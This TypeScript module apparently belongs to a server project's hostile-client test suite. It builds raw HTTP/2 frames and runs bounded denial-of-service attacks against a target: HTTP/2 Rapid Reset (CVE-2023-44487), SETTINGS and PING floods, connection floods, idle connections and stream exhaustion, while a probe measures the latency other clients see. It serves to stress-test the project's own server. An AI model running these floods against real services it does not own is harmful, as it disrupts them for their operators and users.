/**
 * HTTP/2 abuse of the client port, below gRPC: raw frames on raw sockets.
 * Every attack is bounded in bytes, connections and time at both scales,
 * and destroys every socket it opened before it resolves. A server that
 * closes the connection early is recorded (serverClosed), never an error.
 *
 * The helpers are exported for the detailed tests (test/http-hostile-http2.test.ts).
 */
import { connect as netConnect, type Socket } from 'node:net';
import { connect as http2Connect } from 'node:http2';
import { performance } from 'node:perf_hooks';
import { pingAckTimeoutMs, sessionReadCheckIntervalMs } from '@holdfast/server';
import type { Attack, AttackFigures, AttackScale, AttackTarget } from '../attack.js';

export const clientPreface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
export const frameType = { data: 0x0, headers: 0x1, rstStream: 0x3, settings: 0x4, ping: 0x6, goaway: 0x7, windowUpdate: 0x8 } as const;
/** A frame type no HTTP/2 server knows: RFC 7540 4.1 says ignore it. */
export const unknownFrameType = 0xfa;
/** The default SETTINGS_MAX_FRAME_SIZE: the largest payload a client may send before it reads the server's SETTINGS. */
export const defaultMaxFramePayloadBytes = 16_384;

export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

export const emptySettings = frame(frameType.settings, 0, 0);
export const settingsAck = frame(frameType.settings, 0x1, 0);

/** A header block of literal fields without indexing and without Huffman (names and values under 127 bytes). */
export function literalHeaderBlock(fields: ReadonlyArray<readonly [string, string]>): Buffer {
  const parts: Buffer[] = [];
  for (const [name, value] of fields) {
    if (name.length > 126 || value.length > 126) throw new Error('literalHeaderBlock: field too long');
    parts.push(Buffer.from([0x00, name.length]), Buffer.from(name, 'latin1'), Buffer.from([value.length]), Buffer.from(value, 'latin1'));
  }
  return Buffer.concat(parts);
}

/** HEADERS (END_HEADERS) of a unary gRPC Range on `streamId`; END_STREAM only when `endStream`. */
export function rangeRequestHeaders(streamId: number, authority: string, endStream: boolean): Buffer {
  const block = literalHeaderBlock([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', '/etcdserverpb.KV/Range'],
    [':authority', authority],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
  ]);
  return frame(frameType.headers, 0x4 | (endStream ? 0x1 : 0), streamId, block);
}

/** A connected raw socket that has sent the preface and SETTINGS (and, unless told not to, will ACK nothing: see `ackServerSettings`). */
export interface RawHttp2 {
  readonly socket: Socket;
  /** Bytes the server sent. */
  receivedBytes(): number;
  /** Whether the server ended or reset the connection. */
  serverClosed(): boolean;
  /** performance.now() when the server ended or reset the connection. */
  closedAtMs(): number | undefined;
  /** Whether a GOAWAY came, and the error code of the first (a server may send another as it closes). */
  goawayCode(): number | undefined;
  /** Frames of a type counted as they arrive (RST_STREAM, PING ACKs ...). */
  framesOfType(type: number): number;
  /** The server's SETTINGS parameters (identifier -> value; a later frame's value wins). */
  settings(): ReadonlyMap<number, number>;
  /** What the server sent on a stream: HEADERS frames counted, and the RST_STREAM error code if it reset it. */
  stream(streamId: number): { headersFrames: number; resetCode?: number };
  /**
   * Resolves once the server's first SETTINGS came (and, with ackSettings,
   * was ACKed), as real clients wait before a burst of requests (grpc-go
   * sends nothing before; nghttp2 and Go assume 100 streams at most until then).
   */
  serverSettings(): Promise<void>;
  /**
   * Sends a PING and resolves true once its ACK came: the server has read
   * everything sent before it. False when the connection closed or no ACK
   * came within `timeoutMs` (a server that stopped reading).
   */
  ping(timeoutMs: number): Promise<boolean>;
  /** Writes, waiting for the socket to drain; false once the connection is gone. */
  send(bytes: Buffer): Promise<boolean>;
  close(): void;
}

export interface RawHttp2Options {
  /** Read what the server sends (a client that does not read makes the server's writes pile up). Default true. */
  readonly read?: boolean;
  /** ACK the server's SETTINGS as a real client does. Default true. */
  readonly ackSettings?: boolean;
  /** ACK the server's PINGs as a real client does (Holdfast pings quiet sessions). Default: as ackSettings. */
  readonly ackPings?: boolean;
}

export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, options: RawHttp2Options = {}): Promise<RawHttp2> {
  const read = options.read ?? true;
  const ackSettings = options.ackSettings ?? true;
  const ackPings = options.ackPings ?? ackSettings;
  return new Promise((resolve, reject) => {
    const socket = netConnect({ host: target.host, port: target.port, noDelay: true });
    let received = 0;
    let closed = false;
    let closedAtMs: number | undefined;
    let goaway: number | undefined;
    const counts = new Map<number, number>();
    const settings = new Map<number, number>();
    const streams = new Map<number, { headersFrames: number; resetCode?: number }>();
    let pending: Buffer = Buffer.alloc(0);
    let settingsCame: () => void = () => {};
    /** PINGs of ours waiting for their ACK, by payload (hex). */
    const pingWaiters = new Map<string, (acked: boolean) => void>();
    let pingsSent = 0;
    const settingsReceived = new Promise<void>((resolve) => (settingsCame = resolve));
    socket.on('data', (chunk: Buffer) => {
      received += chunk.length;
      // Parse frames only while the backlog is small: this is a client for attacks, not a codec.
      pending = pending.length === 0 ? chunk : Buffer.concat([pending, chunk]);
      let offset = 0;
      while (offset + 9 <= pending.length) {
        const length = pending.readUIntBE(offset, 3);
        if (offset + 9 + length > pending.length) break;
        const type = pending[offset + 3]!;
        const flags = pending[offset + 4]!;
        counts.set(type, (counts.get(type) ?? 0) + 1);
        if (type === frameType.goaway && length >= 8) goaway ??= pending.readUInt32BE(offset + 13);
        const streamId = pending.readUInt32BE(offset + 5) & 0x7fffffff;
        if (streamId !== 0 && (type === frameType.headers || type === frameType.rstStream)) {
          const seen = streams.get(streamId) ?? { headersFrames: 0 };
          if (type === frameType.headers) seen.headersFrames++;
          else if (length >= 4) seen.resetCode = pending.readUInt32BE(offset + 9);
          streams.set(streamId, seen);
        }
        if (type === frameType.ping && length === 8) {
          const payload = pending.subarray(offset + 9, offset + 17);
          if ((flags & 0x1) !== 0) pingWaiters.get(payload.toString('hex'))?.(true);
          else if (ackPings && !socket.destroyed) socket.write(frame(frameType.ping, 0x1, 0, Buffer.from(payload)));
        }
        if (type === frameType.settings && (flags & 0x1) === 0) {
          for (let at = offset + 9; at + 6 <= offset + 9 + length; at += 6) settings.set(pending.readUInt16BE(at), pending.readUInt32BE(at + 2));
          if (ackSettings && !socket.destroyed) socket.write(settingsAck);
          settingsCame();
        }
        offset += 9 + length;
      }
      pending = pending.subarray(offset);
    });
    if (!read) socket.pause();
    const markClosed = (): void => {
      if (!closed) closedAtMs = performance.now();
      closed = true;
      for (const settle of pingWaiters.values()) settle(false);
    };
    socket.once('end', markClosed);
    socket.once('close', markClosed);
    socket.on('error', markClosed);
    socket.once('connect', () => {
      socket.off('error', reject);
      socket.write(Buffer.concat([clientPreface, emptySettings]));
      resolve({
        socket,
        receivedBytes: () => received,
        serverClosed: () => closed,
        closedAtMs: () => closedAtMs,
        goawayCode: () => goaway,
        framesOfType: (type) => counts.get(type) ?? 0,
        settings: () => settings,
        stream: (streamId) => ({ ...(streams.get(streamId) ?? { headersFrames: 0 }) }),
        serverSettings: () => Promise.race([settingsReceived, new Promise<void>((resolve) => socket.once('close', () => resolve()))]),
        ping: (timeoutMs) =>
          new Promise<boolean>((done) => {
            if (closed || socket.destroyed) return done(false);
            const payload = Buffer.alloc(8);
            payload.writeUInt32BE(++pingsSent, 4);
            const key = payload.toString('hex');
            const timer = setTimeout(() => settle(false), timeoutMs);
            const settle = (acked: boolean): void => {
              clearTimeout(timer);
              pingWaiters.delete(key);
              done(acked);
            };
            pingWaiters.set(key, settle);
            socket.write(frame(frameType.ping, 0, 0, payload));
          }),
        send: (bytes) =>
          new Promise<boolean>((done) => {
            if (closed || socket.destroyed) return done(false);
            if (socket.write(bytes)) return done(true);
            const onDrain = (): void => {
              socket.off('close', onClose);
              done(!closed);
            };
            const onClose = (): void => {
              socket.off('drain', onDrain);
              done(false);
            };
            socket.once('drain', onDrain);
            socket.once('close', onClose);
          }),
        close: () => socket.destroy(),
      });
    });
    socket.once('error', reject);
  });
}

/** A RangeRequest for key "k", gRPC-framed. */
export const rangeMessage = Buffer.from([0, 0, 0, 0, 3, 0x0a, 0x01, 0x6b]);

/**
 * Another client's view while an attack runs: unary Ranges one after the
 * other on a fresh HTTP/2 session until `until` settles. Reports their count,
 * failures and latencies (worst, median).
 */
export async function probeLatencies(target: Pick<AttackTarget, 'endpoint'>, until: Promise<unknown>): Promise<{ probeRequests: number; probeFailures: number; probeMaxLatencyMs: number; probeMedianLatencyMs: number }> {
  let done = false;
  void until.finally(() => (done = true));
  const session = http2Connect(`http://${target.endpoint}`);
  session.on('error', () => {});
  const latencies: number[] = [];
  let failures = 0;
  try {
    while (!done) {
      const started = performance.now();
      const ok = await new Promise<boolean>((resolve) => {
        const timer = setTimeout(() => resolve(false), 10_000);
        let status: string | undefined;
        const stream = session.request({ ':method': 'POST', ':path': '/etcdserverpb.KV/Range', 'content-type': 'application/grpc', te: 'trailers' });
        const take = (headers: Record<string, unknown>): void => {
          if (headers['grpc-status'] !== undefined) status = String(headers['grpc-status']);
        };
        stream.on('response', take);
        stream.on('trailers', take);
        stream.on('error', () => {});
        stream.on('close', () => {
          clearTimeout(timer);
          resolve(status === '0');
        });
        stream.resume();
        stream.end(rangeMessage);
      });
      latencies.push(performance.now() - started);
      if (!ok) failures++;
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
  } finally {
    session.destroy();
  }
  latencies.sort((a, b) => a - b);
  return {
    probeRequests: latencies.length,
    probeFailures: failures,
    probeMaxLatencyMs: Math.round(latencies.at(-1) ?? 0),
    probeMedianLatencyMs: Math.round(latencies[Math.floor(latencies.length / 2)] ?? 0),
  };
}

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/**
 * One connection that sends `totalBytes` of frames of an unknown type (which
 * every server must ignore) and never a request; closes after, or once the
 * server closed it or `timeLimitMs` passed.
 */
export async function sendFramesWithoutRequest(target: AttackTarget, totalBytes: number, timeLimitMs: number): Promise<AttackFigures> {
  const connection = await openRawHttp2(target);
  const payload = Buffer.alloc(defaultMaxFramePayloadBytes, 0x61);
  const unknown = frame(unknownFrameType, 0, 0, payload);
  // 64 frames a write: about 1 MiB.
  const batch = Buffer.concat(new Array<Buffer>(64).fill(unknown));
  const started = performance.now();
  let sent = 0;
  try {
    while (sent < totalBytes && performance.now() - started < timeLimitMs) {
      if (!(await connection.send(batch))) break;
      sent += batch.length;
    }
    // Let the server read what is in flight before looking at the result.
    await sleep(200);
    return {
      bytesSent: sent,
      sendMs: Math.round(performance.now() - started),
      serverClosed: connection.serverClosed(),
      goawayCode: connection.goawayCode() ?? 'none',
    };
  } finally {
    connection.close();
  }
}

async function framesWithoutRequest(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
  const totalBytes = scale === 'short' ? 32 * 2 ** 20 : 300 * 2 ** 20;
  const attack = sendFramesWithoutRequest(target, totalBytes, scale === 'short' ? 10_000 : 60_000);
  const [figures, probe] = await Promise.all([attack, probeLatencies(target, attack)]);
  return { ...figures, ...probe };
}

/** Connections opened (at most `parallel` at a time) that each send the preface and SETTINGS and close. */
async function prefaceFlood(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
  const total = scale === 'short' ? 2_000 : 50_000;
  const parallel = 64;
  const started = performance.now();
  let opened = 0;
  let failed = 0;
  const worker = async (): Promise<void> => {
    while (opened < total) {
      opened++;
      try {
        const connection = await openRawHttp2(target, { read: false });
        connection.close();
      } catch {
        failed++;
      }
    }
  };
  await Promise.all(Array.from({ length: parallel }, worker));
  return { connections: total, connectFailures: failed, elapsedMs: Math.round(performance.now() - started) };
}

/**
 * How long a server that sent GOAWAY, or stopped reading, is given to close
 * the connection: Holdfast's bound (a read check, a second one, the PING
 * ACK's timeout; http2-sessions.ts) with room to spare.
 */
export const rapidResetCloseWaitMs = 2 * sessionReadCheckIntervalMs + pingAckTimeoutMs + 10_000;
/** How long a server is given to read the resets sent (then taken for one that stopped reading). */
const rapidResetReadWaitMs = 10_000;

/**
 * Opens `streams` requests on one connection, each cancelled at once
 * (RST_STREAM CANCEL), CVE-2023-44487; stops early when the server stops
 * reading (a write waits past the time limit) or closes. Then a PING: if
 * the server sent GOAWAY or does not ACK it (stopped reading), waits up to
 * rapidResetCloseWaitMs for it to close the connection
 * (serverClosedAfterMs: from the end of sending).
 */
export async function sendRapidResets(target: AttackTarget, streams: number, timeLimitMs: number): Promise<AttackFigures> {
  const connection = await openRawHttp2(target);
  await connection.serverSettings();
  const started = performance.now();
  let sentStreams = 0;
  try {
    const rst = Buffer.alloc(4);
    rst.writeUInt32BE(0x8); // CANCEL
    let stalled = false;
    for (let id = 1; sentStreams < streams; ) {
      const pieces: Buffer[] = [];
      let batch = 0;
      for (; batch < 100 && sentStreams + batch < streams; batch++, id += 2) {
        pieces.push(rangeRequestHeaders(id, target.endpoint, false), frame(frameType.rstStream, 0, id, rst));
      }
      const remainingMs = timeLimitMs - (performance.now() - started);
      // A server that stops reading (and does not close) must not hold the attack past its time.
      const sent = remainingMs > 0 && (await Promise.race([connection.send(Buffer.concat(pieces)), sleep(remainingMs).then(() => 'stalled' as const)]));
      if (sent === 'stalled' || sent === false) {
        stalled = sent === 'stalled' || remainingMs <= 0;
        break;
      }
      sentStreams += batch;
    }
    const sendMs = performance.now() - started;
    // A PING after the resets: its ACK says the server read them all; none says it stopped reading.
    const readEverything = !stalled && (await connection.ping(rapidResetReadWaitMs));
    if (!readEverything || connection.goawayCode() !== undefined) {
      const deadline = performance.now() + rapidResetCloseWaitMs;
      while (!connection.serverClosed() && performance.now() < deadline) await sleep(50);
    }
    return {
      streamsReset: sentStreams,
      serverStoppedReading: !readEverything,
      elapsedMs: Math.round(sendMs),
      serverClosed: connection.serverClosed(),
      serverClosedAfterMs: connection.serverClosed() ? Math.round(connection.closedAtMs()! - sendMs - started) : 'never',
      goawayCode: connection.goawayCode() ?? 'none',
    };
  } finally {
    connection.close();
  }
}

function rapidReset(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
  return sendRapidResets(target, scale === 'short' ? 5_000 : 200_000, scale === 'short' ? 10_000 : 60_000);
}

/** `count` copies of one control frame from a client that never reads the answers. */
async function controlFlood(target: AttackTarget, controlFrame: Buffer, count: number): Promise<AttackFigures> {
  const connection = await openRawHttp2(target, { read: false });
  const perWrite = 1_000;
  const batch = Buffer.concat(new Array<Buffer>(perWrite).fill(controlFrame));
  const started = performance.now();
  let sent = 0;
  try {
    while (sent < count && performance.now() - started < 30_000) {
      if (!(await Promise.race([connection.send(batch), sleep(2_000).then(() => false)]))) break;
      sent += perWrite;
    }
    await sleep(200);
    return { framesSent: sent, elapsedMs: Math.round(performance.now() - started), serverClosed: connection.serverClosed() };
  } finally {
    connection.close();
  }
}

function settingsFlood(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
  const setting = Buffer.alloc(6);
  setting.writeUInt16BE(0x4); // SETTINGS_INITIAL_WINDOW_SIZE
  setting.writeUInt32BE(65_535, 2);
  return controlFlood(target, frame(frameType.settings, 0, 0, setting), scale === 'short' ? 20_000 : 1_000_000);
}

function pingFlood(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
  return controlFlood(target, frame(frameType.ping, 0, 0, Buffer.alloc(8)), scale === 'short' ? 20_000 : 1_000_000);
}

/** Many connections that finish the HTTP/2 handshake and then send nothing, held open for a while. */
async function idleConnections(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
  const count = scale === 'short' ? 500 : 5_000;
  const holdMs = scale === 'short' ? 2_000 : 15_000;
  const connections: RawHttp2[] = [];
  let failed = 0;
  const started = performance.now();
  try {
    for (let i = 0; i < count; i += 100) {
      const opened = await Promise.allSettled(Array.from({ length: Math.min(100, count - i) }, () => openRawHttp2(target)));
      for (const result of opened) {
        if (result.status === 'fulfilled') connections.push(result.value);
        else failed++;
      }
    }
    const openMs = performance.now() - started;
    await sleep(holdMs);
    return { connections: connections.length, connectFailures: failed, openMs: Math.round(openMs), holdMs, closedByServer: connections.filter((c) => c.serverClosed()).length };
  } finally {
    for (const connection of connections) connection.close();
  }
}

/** One connection with many requests open at once (headers sent, bodies never). */
async function manyStreams(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
  const streams = scale === 'short' ? 500 : 5_000;
  const holdMs = scale === 'short' ? 1_000 : 5_000;
  const connection = await openRawHttp2(target);
  await connection.serverSettings();
  try {
    const pieces: Buffer[] = [];
    for (let i = 0; i < streams; i++) pieces.push(rangeRequestHeaders(1 + 2 * i, target.endpoint, false));
    await connection.send(Buffer.concat(pieces));
    await sleep(holdMs);
    return { streamsOpened: streams, streamsResetByServer: connection.framesOfType(frameType.rstStream), serverClosed: connection.serverClosed(), goawayCode: connection.goawayCode() ?? 'none' };
  } finally {
    connection.close();
  }
}

export const attacks: readonly Attack[] = [
  { name: 'http2-preface-flood', description: 'connections that each send the HTTP/2 preface and SETTINGS, then close (2,000 / 50,000, 64 at a time)', run: prefaceFlood },
  { name: 'http2-frames-without-request', description: 'one HTTP/2 connection sends 32 / 300 MiB of ignorable frames and never a request; another client keeps reading', run: framesWithoutRequest },
  { name: 'http2-rapid-reset', description: 'requests opened and cancelled at once on one connection (5,000 / 200,000), CVE-2023-44487', run: rapidReset },
  { name: 'http2-settings-flood', description: 'SETTINGS frames from a client that never reads the ACKs (20,000 / 1,000,000)', run: settingsFlood },
  { name: 'http2-ping-flood', description: 'PING frames from a client that never reads the answers (20,000 / 1,000,000)', run: pingFlood },
  { name: 'http2-idle-connections', description: 'connections that finish the handshake and go silent (500 for 2 s / 5,000 for 15 s)', run: idleConnections },
  { name: 'http2-many-streams', description: 'requests left open on one connection (500 / 5,000 streams)', run: manyStreams },
];

/** The attack the issue measured (finding 2), for runners that take one attack a module. */
export const attack: Attack = attacks[1]!;
